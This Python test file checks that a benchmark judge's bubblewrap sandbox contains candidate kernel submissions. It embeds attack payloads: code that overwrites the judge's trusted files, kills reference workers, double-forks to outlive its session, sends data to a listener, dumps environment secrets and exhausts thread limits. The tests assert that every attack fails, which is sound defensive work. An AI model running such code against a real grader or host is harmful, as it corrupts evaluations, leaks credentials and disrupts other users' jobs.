"""The OS sandbox: what a candidate cannot reach, whatever code it runs.

One evaluation of an honest Triton ReLU that, at import, tries everything a
candidate with code execution would try outside its process: write the files
the judge trusts later (the problem file, the store, the baseline cache, the
judge's working directory), outlive its process group (double fork and
``setsid``), kill the reference worker, reach the network, read the judge's
secrets. All are tried under ``--policy off`` (no name-matching rule stops
them first): the sandbox alone must hold, and the honest kernel still passes.
"""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import threading
import time
from pathlib import Path

import psutil
import pytest

import kbench
from kbench.judge.processes import sandbox
from kbench.judge.protocol.timing import TimingSettings

HERE = Path(__file__).parent
FAST = TimingSettings(warmup_calls=2, warmup_seconds=0.0, min_calls=3, max_calls=5, budget_seconds=0.5,
                      rounds=2)  # what the sandbox lets a candidate do does not turn on the rounds
SECRET = "sk-kbench-test-" + secrets.token_hex(8)

ATTACKS = '''
import os, signal, socket, subprocess, sys, time

def _attack():
    for target in {targets!r}:
        try:
            with open(target, "a") as f:
                f.write("\\nraise SystemExit('planted by the candidate')\\n")
            print("WROTE", target)
        except OSError as exc:
            print("write refused", target, exc)
    try:
        os.makedirs({planted_package!r}, exist_ok=True)
        open(os.path.join({planted_package!r}, "__init__.py"), "w").write("raise SystemExit('planted')")
    except OSError:
        pass
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        try:
            if pid != os.getpid() and "kbench.judge.worker.session" in open(f"/proc/{{pid}}/cmdline").read():
                os.kill(pid, signal.SIGKILL)
                print("KILLED", pid)
        except (OSError, ValueError):
            pass
    if os.fork() == 0:  # a grandchild in a session of its own, to outlive the candidate
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["/bin/sleep", {survivor!r}])
        os._exit(0)
    try:
        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"exfiltrated")
        print("CONNECTED")
    except OSError as exc:
        print("network refused", exc)
    print("environment", dict(os.environ))
    for secret_file in {secret_files!r}:
        try:
            print("read", open(secret_file).read())
        except OSError as exc:
            print("read refused", exc)

_attack()
'''


@pytest.fixture
def listener():
    """A TCP server on the judge's loopback that records whatever connects."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    seen: list[bytes] = []
    done = threading.Event()

    def accept() -> None:
        while not done.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            seen.append(connection.recv(100))
            connection.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    done.set()
    thread.join()
    server.close()


def test_a_candidate_reaches_nothing_outside_its_sandbox(tmp_path, monkeypatch, listener):
    port, connections = listener
    # Everything it targets is world-writable and world-readable: only the sandbox stands in the way.
    problem = tmp_path / "problem" / "relu.py"
    problem.parent.mkdir()
    problem.write_text((Path(kbench.__file__).parent / "suite" / "level1" / "relu.py").read_text())
    store, cache = tmp_path / "kbench.db", tmp_path / "cache" / "baselines.sqlite"
    cache.parent.mkdir()
    for target in (store, cache):
        target.write_text("trusted")
    judge_cwd = tmp_path / "judge_cwd"
    (judge_cwd / "kbench").mkdir(parents=True)  # a kbench package planted here would shadow the real one
    (judge_cwd / "kbench" / "__init__.py").write_text("raise SystemExit('a worker imported from the judge cwd')")
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text(SECRET)
    for path in [tmp_path, problem.parent, cache.parent, judge_cwd, problem, store, cache, secret_file]:
        path.chmod(0o777 if path.is_dir() else 0o666)
    survivor = f"1000.{secrets.randbelow(10**9):09d}"
    attack = ATTACKS.format(targets=[str(problem), str(store), str(cache)], planted_package=str(judge_cwd / "evil"),
                            survivor=survivor, port=port, secret_files=[str(secret_file)])
    solution = tmp_path / "escape.py"
    solution.write_text((HERE / "exploits" / "twin_relu.py").read_text() + attack)
    problem_text = problem.read_text()
    monkeypatch.chdir(judge_cwd)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)

    verdict = kbench.evaluate(problem, solution, "cpu", size="small", trials=2, timing=FAST, policy="off")

    assert verdict.status == "correct", verdict.reason  # the reference was not killed: no problem error
    assert verdict.sandbox["kind"] == "bubblewrap"
    assert problem.read_text() == problem_text
    assert store.read_text() == "trusted" and cache.read_text() == "trusted"
    assert not (judge_cwd / "evil").exists()
    assert connections == []
    for refused in ("write refused", "network refused", "read refused"):
        assert refused in verdict.output_tail
    assert "WROTE" not in verdict.output_tail and "KILLED" not in verdict.output_tail
    assert SECRET not in verdict.output_tail
    time.sleep(0.5)
    survivors = [p.pid for p in psutil.process_iter(["cmdline"]) if survivor in (p.info["cmdline"] or [])]
    assert survivors == []


KILL_THE_REFERENCE = """
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    try:  # the judge's other workers only (same parent), not those of other judges on this machine
        siblings = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1] == str(os.getppid())
        if pid != os.getpid() and siblings and "kbench.judge.worker.session" in open(f"/proc/{pid}/cmdline").read():
            os.kill(pid, signal.SIGKILL)
    except (OSError, ValueError, IndexError):
        pass
"""


def test_a_reference_that_fails_beside_the_candidate_and_not_alone_blames_the_candidate(tmp_path):
    """Unsandboxed, a candidate can kill the reference worker: the problem must not
    take the blame (exit 2, problem_error) when a fresh reference, alone, runs."""
    solution = tmp_path / "kill_reference.py"
    solution.write_text((HERE / "exploits" / "twin_relu.py").read_text() + KILL_THE_REFERENCE)
    verdict = kbench.evaluate("level1/relu", solution, "cpu", size="small", trials=2, measure_time=False,
                              policy="off", sandbox=False)
    assert verdict.status == "rejected"
    assert verdict.reason.startswith("reference-interference: "), verdict.reason


def test_without_a_sandbox_the_judge_refuses_unless_told(monkeypatch):
    monkeypatch.setattr(sandbox, "bwrap_binary", lambda: None)
    sandbox.find_sandbox.cache_clear()
    try:
        unconfined = HERE / "exploits" / "pure_torch_relu.py"  # rejected by a static rule: nothing runs
        with pytest.raises(sandbox.SandboxUnavailable, match="--no-sandbox"):
            kbench.evaluate("level1/relu", unconfined, "cpu", size="small")
        verdict = kbench.evaluate("level1/relu", unconfined, "cpu", size="small", sandbox=False)
        assert verdict.sandbox == {"kind": "none", "reason": "--no-sandbox"}
    finally:
        sandbox.find_sandbox.cache_clear()


def test_the_candidate_environment_keeps_no_secrets():
    env = sandbox.candidate_env({"PATH": "/usr/bin", "OPENAI_API_KEY": SECRET, "HF_TOKEN": SECRET,
                                 "AWS_SECRET_ACCESS_KEY": SECRET, "GITHUB_TOKEN": SECRET,
                                 "CUDA_VISIBLE_DEVICES": "0", "TORCH_EXTENSIONS_DIR": "/x"})
    assert env == {"PATH": "/usr/bin", "CUDA_VISIBLE_DEVICES": "0", "TORCH_EXTENSIONS_DIR": "/x"}


def test_the_candidate_runs_under_the_runtime_settings_the_reference_runs_under():
    """The reference's workers get the judge's whole environment: a setting that changes how fast
    CUDA, cuBLAS, the allocator or a thread pool runs must reach the candidate too, or a speedup
    measures the configuration; and the workplace's NVLink-multicast switches stay set."""
    settings = {"PYTORCH_CUDA_ALLOC_CONF": "expandable_segments:True", "CUDA_MODULE_LOADING": "EAGER",
                "CUDA_LAUNCH_BLOCKING": "1", "CUBLAS_WORKSPACE_CONFIG": ":4096:8", "CUBLASLT_WORKSPACE_SIZE": "1024",
                "CUDNN_LOGLEVEL_DBG": "0", "NCCL_NVLS_ENABLE": "0", "NVSHMEM_DISABLE_NVLS": "1",
                "TORCH_SYMM_MEM_DISABLE_MULTICAST": "1", "OMP_NUM_THREADS": "4", "MKL_NUM_THREADS": "4",
                "CUDA_HOME": "/usr/local/cuda"}
    assert sandbox.candidate_env({**settings, "HOME": "/root", "USER": "root"}) == settings


def test_what_is_made_readable_under_a_fresh_tmp_is_reachable_by_the_candidate(tmp_path):
    """A Python or kbench checkout under /tmp (a fresh tmpfs in the sandbox) is bound
    with its parents made traversable, as it is anywhere else."""
    import subprocess

    box = sandbox.find_sandbox()
    shared = tmp_path / "checkout"
    shared.mkdir()
    (shared / "file.txt").write_text("visible")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    sandbox.give_to_candidate(scratch)
    command = box.wrap(["/bin/cat", str(shared / "file.txt")], scratch=scratch, readable=[shared], env={})
    done = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, "visible"), done.stderr


@pytest.mark.skipif(os.geteuid() != 0, reason="only root hands files to the candidate's uid")
def test_a_file_that_vanishes_while_a_folder_is_handed_over_is_no_error(tmp_path, monkeypatch):
    """A spare's candidate worker compiles into its build folder while the judge hands that folder
    over (Triton renames its temporary files away): an entry gone mid-walk is skipped, the rest
    change owner (it crashed a whole run on the H200 once, 2026-12-04)."""
    kept = tmp_path / "kept.json"
    kept.write_text("{}")
    walk = os.walk

    def walk_listing_a_vanished_file(path):
        for root, dirs, files in walk(path):
            yield root, dirs, files + ["tmp.pid_2_renamed-away"]

    monkeypatch.setattr(sandbox.os, "walk", walk_listing_a_vanished_file)
    sandbox.give_to_candidate(tmp_path)
    assert (tmp_path.stat().st_uid, kept.stat().st_uid) == (sandbox.NOBODY, sandbox.NOBODY)


HOG = '''
"""Holds every thread its uid may have (native threads blocked, no Python frame running), then sleeps."""
import threading
import time

import torch
import torch.nn as nn

threading.stack_size(64 * 1024)
_hold, _threads = threading.Event(), []
while len(_threads) < 20000:
    try:
        thread = threading.Thread(target=_hold.wait, daemon=True)
        thread.start()
    except RuntimeError:  # the process limit reached
        break
    _threads.append(thread)
print("holding", len(_threads), "threads", flush=True)
time.sleep(20)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
'''


@pytest.mark.slow
@pytest.mark.skipif(os.geteuid() != 0, reason="as another user each sandbox is a user namespace of its own")
def test_a_candidate_holding_its_whole_process_limit_harms_no_evaluation_beside_it(tmp_path):
    """Issue 57: RLIMIT_NPROC is counted per uid, and every sandbox ran as 65534; one candidate
    holding ~4000 native threads made an honest solution judged meanwhile ``crashed``. Each
    sandbox now runs as a uid of its own: the honest one is correct."""
    hog = tmp_path / "hog.py"
    hog.write_text(HOG)
    verdicts = {}

    def attack() -> None:
        verdicts["hog"] = kbench.evaluate("level1/relu", hog, "cpu", measure_time=False, policy="off", trials=1,
                                          timeout=120)

    thread = threading.Thread(target=attack)
    thread.start()
    holder, deadline = None, time.monotonic() + 90
    while holder is None and time.monotonic() < deadline:
        holder = next((p for p in psutil.process_iter(["num_threads", "uids"])
                       if (p.info["num_threads"] or 0) > 1000 and p.info["uids"]
                       and sandbox.is_sandbox_uid(p.info["uids"].real)), None)
        time.sleep(0.2)
    assert holder is not None, "the candidate never held its threads"
    honest = kbench.evaluate("level1/relu", HERE / "exploits" / "twin_relu.py", "cpu", measure_time=False, trials=1)
    thread.join()
    assert honest.status == "correct", honest.reason
    assert "holding 409" in verdicts["hog"].output_tail  # its own limit, all of it: MAX_PROCESSES less a few
    assert honest.sandbox["process_limit"].startswith("per sandbox")


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives a sandbox a uid of its own")
def test_each_sandbox_holds_a_uid_of_its_own_until_it_gives_it_back(tmp_path):
    first, second = sandbox.SandboxIdentity(), sandbox.SandboxIdentity()
    try:
        assert first.uid != second.uid and all(map(sandbox.is_sandbox_uid, (first.uid, second.uid)))
        assert first.uid != sandbox.NOBODY
        scratch = tmp_path / "scratch"
        (scratch / "deep").mkdir(parents=True)
        sandbox.give_to_candidate(scratch, uid=first.uid)
        checkout = scratch / "checkout"
        checkout.mkdir()
        sandbox.give_to_candidate(checkout)  # no uid given: the sandbox's that owns the folder above
        assert {p.stat().st_uid for p in (scratch, scratch / "deep", checkout)} == {first.uid}
        box = sandbox.find_sandbox()
        command = box.wrap(["/bin/sh", "-c", "id -u; grep 'Max processes' /proc/self/limits; touch made"], scratch=scratch, env={}, uid=first.uid)
        done = subprocess.run(command, capture_output=True, text=True, timeout=60)
        assert done.stdout.split()[:5] == [str(first.uid), "Max", "processes", *[str(sandbox.MAX_PROCESSES)] * 2]
        assert (scratch / "made").stat().st_uid == first.uid
    finally:
        first.release()
        second.release()
    again = [sandbox.SandboxIdentity() for _ in range(3)]
    assert len({identity.uid for identity in again}) == 3
    for identity in again:
        identity.release()


def test_what_the_judge_finds_from_its_own_file_is_where_it_was():
    """Paths computed from a module's own location (a move of the module must not move them): the
    source a worker imports kbench from, and the bundled tasks' folders no sandbox shows."""
    from kbench.judge.processes import process

    assert (Path(process.KBENCH_SRC) / "kbench" / "__init__.py").is_file()
    assert [p.relative_to(Path(kbench.__file__).parent) for p in sandbox.HIDDEN_PATHS] == [Path("repo/tasks")]
    assert all(p.is_dir() for p in sandbox.HIDDEN_PATHS)
